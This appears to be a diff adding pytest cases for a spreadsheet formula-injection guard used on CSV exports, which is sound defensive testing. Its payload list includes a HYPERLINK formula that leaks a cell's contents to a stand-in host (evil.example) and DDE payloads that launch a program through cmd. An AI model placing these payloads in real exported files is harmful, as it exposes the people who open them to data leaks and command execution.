@@ -44,6 +44,33 @@ def test_ordinary_text_is_left_alone(value: str) -> None:
     assert neutralise_formula(value) == value
 
 
+@pytest.mark.parametrize(
+    "value", ["@stadtbeta", "@stadt.beta_2-x", "+4915112345678", "-2", "+1.5", "-0,25"]
+)
+def test_handles_and_plain_signed_numbers_cannot_run_and_stay(value: str) -> None:
+    assert neutralise_formula(value) == value
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "=1+1",
+        "@",
+        "@stadt beta",
+        "-1-1",
+        "+49 151",
+        "\t=1",
+        "\r=1",
+    ],
+)
+def test_formula_injection_payloads_keep_the_guard(payload: str) -> None:
+    assert neutralise_formula(payload) == "'" + payload
+
+
 def test_accounts_export_has_one_row_per_sighting_with_evidence(scenario: Scenario) -> None:
     result = invoke(scenario.url, "export", "accounts", "--run", "latest")
     rows = _csv(result.stdout)
